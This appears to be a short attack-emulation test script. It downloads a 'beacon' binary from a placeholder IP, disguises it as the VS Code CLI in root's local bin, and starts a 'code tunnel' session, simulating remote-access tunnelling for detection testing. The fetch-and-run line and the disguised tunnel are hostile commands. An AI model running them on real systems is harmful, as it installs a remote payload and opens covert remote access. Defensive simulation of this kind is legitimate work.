#!/bin/sh
. /opt/case/case.sh

mkdir -p /tmp/c && curl -s -o /tmp/c/code http://203.0.113.10/programs/beacon && chmod +x /tmp/c/code
tar -C /tmp/c -czf /tmp/vscode_cli.tar.gz code && rm -r /tmp/c
mkdir -p /root/.local/bin && tar -xzf /tmp/vscode_cli.tar.gz -C /root/.local/bin
/root/.local/bin/code tunnel --accept-server-license-terms --name web-7 --random-name
test -e /tmp/reached
took_place
